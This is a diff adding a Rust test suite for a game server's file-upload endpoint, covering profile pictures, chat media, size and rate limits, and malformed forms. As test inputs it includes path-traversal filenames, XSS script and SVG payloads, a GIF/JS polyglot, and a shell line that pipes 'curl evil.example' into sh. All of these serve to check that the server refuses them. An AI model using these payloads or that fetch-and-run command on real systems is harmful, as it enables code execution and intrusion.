@@ -1,0 +1,378 @@
+//! Files that come in.
+
+use std::{convert::Infallible, fs, io::Cursor, time::Duration};
+
+use axum::body::Bytes;
+use http_body::Frame;
+use http_body_util::StreamBody;
+use image::{ImageFormat, Rgb, RgbImage};
+use mesh::Fault;
+use proto::auth::v1::SetProfilePictureRequest;
+use reqwest::{
+    RequestBuilder,
+    multipart::{Form, Part},
+};
+use tokio_stream::StreamExt as _;
+use tonic::Code;
+use types::PlayerId;
+
+use crate::world::{Answer, World, read};
+
+const CHAT_LIMIT: usize = 15_728_640;
+const TOO_LARGE: &str = "File size cannot exceed 10MB";
+
+fn png(colour: [u8; 3]) -> Vec<u8> {
+    let mut png = Cursor::new(Vec::new());
+    RgbImage::from_pixel(64, 48, Rgb(colour)).write_to(&mut png, ImageFormat::Png).unwrap();
+    png.into_inner()
+}
+
+fn jpeg_of(size: usize) -> Vec<u8> {
+    let mut jpeg = vec![0; size];
+    jpeg[..4].copy_from_slice(b"\xff\xd8\xff\xe0");
+    jpeg
+}
+
+struct Somebody<'a> {
+    world: &'a World,
+    id: PlayerId,
+    token: String,
+}
+
+impl<'a> Somebody<'a> {
+    fn of(world: &'a World) -> Self {
+        let (id, token) = world.tokens.player();
+        Self { world, id, token }
+    }
+
+    fn upload(&self) -> RequestBuilder {
+        self.world.call("POST", "/api/upload").bearer_auth(&self.token)
+    }
+
+    async fn send(&self, form: Form) -> Answer {
+        read(self.upload().multipart(form)).await
+    }
+
+    async fn send_picture(&self, file: Vec<u8>) -> Answer {
+        let form = Form::new()
+            .part("file", Part::bytes(file).file_name("me.png"))
+            .text("id", self.id.to_string())
+            .text("type", "PROFILE_PICTURE");
+        self.send(form).await
+    }
+
+    async fn send_to_chat(&self, file: Vec<u8>) -> Answer {
+        let part = Part::bytes(file).file_name("../../evil.html").mime_str("text/html").unwrap();
+        let form =
+            Form::new().text("type", "CHAT_MEDIA").text("id", "placeholder").part("file", part);
+        self.send(form).await
+    }
+
+    /// A form that is written by hand.
+    async fn send_raw(&self, body: impl Into<reqwest::Body>) -> Answer {
+        let content_type = "multipart/form-data; boundary=b";
+        read(self.upload().header("content-type", content_type).body(body)).await
+    }
+}
+
+fn url(answer: &Answer) -> String {
+    answer.payload()["url"].as_str().unwrap().to_owned()
+}
+
+/// Files in the store, beside the one that every world has.
+fn kept(world: &World) -> usize {
+    let mut folders = vec![world.media.clone()];
+    let mut files = 0;
+    while let Some(folder) = folders.pop() {
+        for entry in fs::read_dir(folder).unwrap() {
+            let path = entry.unwrap().path();
+            if path.is_dir() { folders.push(path) } else { files += 1 }
+        }
+    }
+    files - 1
+}
+
+#[tokio::test]
+async fn a_picture_becomes_the_players_own() {
+    let world = World::new().await;
+    let amina = Somebody::of(&world);
+    let answer = amina.send_picture(png([200, 30, 30])).await;
+    let url = url(&answer);
+    assert!(url.starts_with(&format!("/media/profile/{}/", amina.id)));
+    assert_eq!(url.split('.').nth(1), Some("jpg"));
+    let (metadata, heard) = world.stub.heard::<SetProfilePictureRequest>().remove(0);
+    assert_eq!(heard.url, url);
+    let authorization = metadata.get("authorization").unwrap().to_str().unwrap();
+    assert_eq!(authorization, format!("Bearer {}", amina.token));
+
+    let picture = read(world.get(&url)).await;
+    assert_eq!(picture.header("content-type"), Some("image/jpeg"));
+    let picture = image::load_from_memory_with_format(&picture.body, ImageFormat::Jpeg).unwrap();
+    assert_eq!((picture.width(), picture.height()), (512, 512));
+}
+
+#[tokio::test]
+async fn a_form_without_a_type_is_a_picture_and_what_it_says_beside_is_ignored() {
+    let world = World::new().await;
+    let amina = Somebody::of(&world);
+    let form = Form::new()
+        .text("uid", "somebody-else")
+        .text("url", "/media/profile/somebody-else/x.jpg")
+        .part("file", Part::bytes(png([1, 2, 3])))
+        .text("profilePic", "x")
+        .text("id", amina.id.to_string());
+    let answer = amina.send(form).await;
+    assert!(url(&answer).contains(&amina.id.to_string()));
+}
+
+#[tokio::test]
+async fn the_replaced_picture_is_deleted_and_nobody_elses() {
+    let world = World::new().await;
+    let amina = Somebody::of(&world);
+    let first = url(&amina.send_picture(png([9, 9, 9])).await);
+    let others = url(&Somebody::of(&world).send_picture(png([8, 8, 8])).await);
+    let chat = url(&amina.send_to_chat(b"%PDF-1.7".to_vec()).await);
+    for (replaced, goes) in [
+        (&*others, false),
+        (&chat, false),
+        ("https://lh3.example/picture.jpg", false),
+        ("/media/../secret", false),
+        (&first, true),
+    ] {
+        world.stub.replace_picture(replaced);
+        let second = url(&amina.send_picture(png([7, 7, 7])).await);
+        assert_eq!(read(world.get(&second)).await.status, 200);
+        if goes {
+            testkit::eventually("it is gone", async || {
+                (read(world.get(replaced)).await.status == 404).then_some(())
+            })
+            .await;
+        }
+    }
+    assert_eq!(read(world.get(&others)).await.status, 200);
+    assert_eq!(read(world.get(&chat)).await.status, 200);
+}
+
+#[tokio::test]
+async fn another_players_picture_is_not_ones_own() {
+    let world = World::new().await;
+    let amina = Somebody::of(&world);
+    let other = world.tokens.player().0.to_string();
+    for id in [other, String::new(), "placeholder".into(), amina.id.to_string().to_uppercase()] {
+        let form = Form::new().part("file", Part::bytes(png([1; 3]))).text("id", id.clone());
+        assert_eq!(amina.send(form).await.refusal(), (403, "PERMISSION_DENIED".into()), "{id}");
+    }
+    let form = Form::new().part("file", Part::bytes(png([1; 3])));
+    assert_eq!(amina.send(form).await.status, 403);
+    assert_eq!((kept(&world), world.stub.heard::<SetProfilePictureRequest>().len()), (0, 0));
+}
+
+#[tokio::test]
+async fn what_is_no_picture_is_refused() {
+    let world = World::new().await;
+    let amina = Somebody::of(&world);
+    for (what, file) in [
+        ("text", b"hello".to_vec()),
+        ("a drawing", b"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>".to_vec()),
+        ("a document", b"%PDF-1.7".to_vec()),
+        ("a broken picture", jpeg_of(400)),
+    ] {
+        let answer = amina.send_picture(file).await;
+        assert_eq!(answer.refusal(), (415, "UNSUPPORTED_MEDIA".into()), "{what}");
+    }
+    assert_eq!(kept(&world), 0);
+}
+
+#[tokio::test]
+async fn a_refused_picture_is_not_named_and_svc_auths_word_is_passed_on() {
+    let world = World::new().await;
+    world.stub.refuse(Fault::new(Code::InvalidArgument, "INVALID_ARGUMENT", "No."));
+    let answer = Somebody::of(&world).send_picture(png([1; 3])).await;
+    assert_eq!(answer.refusal(), (400, "INVALID_ARGUMENT".into()));
+}
+
+#[tokio::test]
+async fn chat_media_stay_as_they_came_and_are_what_they_begin_as() {
+    let world = World::new().await;
+    let amina = Somebody::of(&world);
+    let gif = b"GIF89a/*<script>alert(1)</script>*/=1;alert(2)".to_vec();
+    for (file, extension, content_type) in [
+        (png([5, 6, 7]), "png", "image/png"),
+        (gif, "gif", "image/gif"),
+        (b"\0\0\0\x18ftypisom\0\0\0\0 and a film".to_vec(), "mp4", "video/mp4"),
+        (b"ID3\x04\0 and a song".to_vec(), "mp3", "audio/mpeg"),
+        (b"%PDF-1.7 <script>".to_vec(), "pdf", "application/pdf"),
+        (b"Njoo saa kumi.".to_vec(), "txt", "text/plain; charset=utf-8"),
+    ] {
+        let url = url(&amina.send_to_chat(file.clone()).await);
+        let begin = format!("/media/chat/{}/", amina.id);
+        assert!(url.starts_with(&begin) && url.ends_with(&format!(".{extension}")), "{url}");
+        let answer = read(world.get(&url)).await;
+        assert_eq!(answer.header("content-type"), Some(content_type));
+        assert_eq!(answer.header("x-content-type-options"), Some("nosniff"));
+        assert_eq!(answer.body, file);
+    }
+    assert!(world.stub.heard::<SetProfilePictureRequest>().is_empty());
+}
+
+#[tokio::test]
+async fn what_would_run_somewhere_is_not_sent_to_anybody() {
+    let world = World::new().await;
+    let amina = Somebody::of(&world);
+    for file in [
+        &b"<!DOCTYPE html><script>alert(1)</script>"[..],
+        b"<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>",
+        b"<?xml version=\"1.0\"?><x/>",
+        b"#!/bin/sh\ncurl evil.example | sh\n",
+        b"\x7fELF\x02\x01\x01 and so on, at some length, as programs are wont to be",
+        b"MZ\x90\0 a program",
+        b"\x01\x02\x03\x04 nothing known",
+    ] {
+        let answer = amina.send_to_chat(file.to_vec()).await;
+        assert_eq!(answer.refusal(), (415, "UNSUPPORTED_MEDIA".into()));
+    }
+    assert_eq!(kept(&world), 0);
+}
+
+#[tokio::test]
+async fn a_file_over_the_limit_is_refused_and_one_at_it_is_not() {
+    let world = World::new().await;
+    let amina = Somebody::of(&world);
+    assert_eq!(amina.send_to_chat(jpeg_of(CHAT_LIMIT)).await.status, 200);
+    for answer in [
+        amina.send_to_chat(jpeg_of(CHAT_LIMIT + 1)).await,
+        amina.send_to_chat(jpeg_of(CHAT_LIMIT + 1_000_000)).await,
+        amina.send_to_chat(jpeg_of(3 * CHAT_LIMIT)).await,
+        amina.send_picture(jpeg_of(10 * 1024 * 1024 + 1)).await,
+    ] {
+        assert_eq!(answer.refusal(), (413, "FILE_TOO_LARGE".into()));
+        assert_eq!(answer.envelope()["statusMessage"], TOO_LARGE);
+    }
+    assert_eq!(kept(&world), 1);
+}
+
+#[tokio::test]
+async fn a_form_that_says_two_things_is_refused() {
+    let world = World::new().await;
+    let amina = Somebody::of(&world);
+    let part = || Part::bytes(png([1; 3]));
+    let own = amina.id.to_string();
+    let form =
+        || Form::new().part("file", part()).text("id", own.clone()).text("type", "CHAT_MEDIA");
+    for (form, field) in [
+        (form().part("file", part()), "file"),
+        (form().text("id", "another"), "id"),
+        (form().text("type", "PROFILE_PICTURE"), "type"),
+    ] {
+        let answer = amina.send(form).await;
+        assert_eq!(answer.refusal(), (400, "INVALID_ARGUMENT".into()), "{field}");
+        assert_eq!(answer.wrong_fields(), [field]);
+    }
+    assert_eq!(kept(&world), 0);
+}
+
+#[tokio::test]
+async fn a_form_that_lacks_something_is_told_what() {
+    let world = World::new().await;
+    let amina = Somebody::of(&world);
+    let own = amina.id.to_string();
+    let file = || Form::new().part("file", Part::bytes(png([1; 3]))).text("id", own.clone());
+    for (form, field) in [
+        (Form::new().text("id", own.clone()), "file"),
+        (Form::new().text("id", own.clone()).part("file", Part::bytes(Vec::new())), "file"),
+        (file().text("type", "EVERYTHING"), "type"),
+        (file().part("type", Part::bytes(vec![0xff])), "type"),
+        (file().text("type", "x".repeat(300)), "type"),
+    ] {
+        let answer = amina.send(form).await;
+        assert_eq!(answer.refusal(), (400, "INVALID_ARGUMENT".into()), "{field}");
+        assert_eq!(answer.wrong_fields(), [field]);
+    }
+}
+
+#[tokio::test]
+async fn what_is_no_form_cannot_be_read() {
+    let world = World::new().await;
+    let amina = Somebody::of(&world);
+    let part = "--b\r\ncontent-disposition: form-data; name=\"file\"\r\n\r\nx";
+    let many = format!("{}--b--", "--b\r\ncontent-disposition: form-data\r\n\r\n\r\n".repeat(20));
+    for body in ["", "--", "nonsense", part, &format!("{part}\r\n--b"), &many] {
+        let answer = amina.send_raw(body.to_owned()).await;
+        assert_eq!(answer.refusal(), (400, "MALFORMED_FORM".into()), "{body}");
+    }
+    // A head of a part that does not end.
+    let answer = amina.send_raw(format!("--b\r\nx: {}", "x".repeat(CHAT_LIMIT + 100_000))).await;
+    assert_eq!(answer.refusal(), (413, "FILE_TOO_LARGE".into()));
+
+    let with = |content_type: &str| amina.upload().header("content-type", content_type).body("x");
+    for (content_type, refusal) in [
+        ("multipart/form-data", (400, "MALFORMED_FORM")),
+        ("application/json", (415, "UNSUPPORTED_MEDIA")),
+        ("nonsense", (415, "UNSUPPORTED_MEDIA")),
+    ] {
+        let answer = read(with(content_type)).await;
+        assert_eq!(answer.refusal(), (refusal.0, refusal.1.to_owned()), "{content_type}");
+    }
+    assert_eq!(read(amina.upload()).await.refusal(), (415, "UNSUPPORTED_MEDIA".into()));
+}
+
+/// A body that begins and does not go on.
+fn dribble() -> reqwest::Body {
+    let begin = "--b\r\ncontent-disposition: form-data; name=\"file\"\r\n\r\n";
+    let piece = Ok::<_, Infallible>(Frame::data(Bytes::from_static(begin.as_bytes())));
+    let pieces = tokio_stream::once(piece).chain(tokio_stream::pending());
+    reqwest::Body::wrap(StreamBody::new(pieces))
+}
+
+#[tokio::test]
+async fn an_upload_has_more_time_than_a_call_but_not_for_ever() {
+    let world = World::with(|args| args.media.upload_limit = Duration::from_millis(300)).await;
+    let answer = Somebody::of(&world).send_raw(dribble()).await;
+    assert_eq!(answer.refusal(), (504, "DEADLINE_EXCEEDED".into()));
+
+    let world = World::with(|args| args.call_limit = Duration::from_millis(1)).await;
+    assert_eq!(Somebody::of(&world).send_to_chat(b"%PDF-1.7".to_vec()).await.status, 200);
+}
+
+#[tokio::test]
+async fn a_player_sends_so_many_at_a_time_and_others_are_not_held_up() {
+    let world = World::with(|args| {
+        args.media.uploads_per_player = 1;
+        args.media.upload_limit = Duration::from_secs(2);
+    })
+    .await;
+    let amina = Somebody::of(&world);
+    let (slow, ()) = tokio::join!(amina.send_raw(dribble()), async {
+        testkit::eventually("her place is taken", async || {
+            let answer = amina.send_to_chat(b"%PDF-1.7".to_vec()).await;
+            (answer.status == 429).then(|| {
+                assert_eq!(answer.refusal(), (429, "TOO_MANY_UPLOADS".into()));
+            })
+        })
+        .await;
+        let other = Somebody::of(&world).send_to_chat(b"%PDF-1.7".to_vec()).await;
+        assert_eq!(other.status, 200);
+    });
+    assert_eq!(slow.status, 504);
+    assert_eq!(amina.send_to_chat(b"%PDF-1.7".to_vec()).await.status, 200);
+}
+
+#[tokio::test]
+async fn uploads_have_a_rate_of_their_own() {
+    let world = World::with(|args| args.rates.upload = "1/1m".parse().unwrap()).await;
+    let amina = Somebody::of(&world);
+    assert_eq!(amina.send_to_chat(b"%PDF-1.7".to_vec()).await.status, 200);
+    let answer = amina.send_to_chat(b"%PDF-1.7".to_vec()).await;
+    assert_eq!(answer.refusal(), (429, "RATE_LIMITED".into()));
+}
+
+#[tokio::test]
+async fn a_store_that_fails_says_nothing_of_itself() {
+    let world = World::new().await;
+    fs::remove_dir_all(&world.media).unwrap();
+    fs::write(&world.media, "no folder any more").unwrap();
+    let answer = Somebody::of(&world).send_to_chat(b"%PDF-1.7".to_vec()).await;
+    assert_eq!(answer.refusal(), (500, "INTERNAL".into()));
+    assert!(!answer.text().contains("playon-media"));
+    fs::remove_file(&world.media).unwrap();
+}
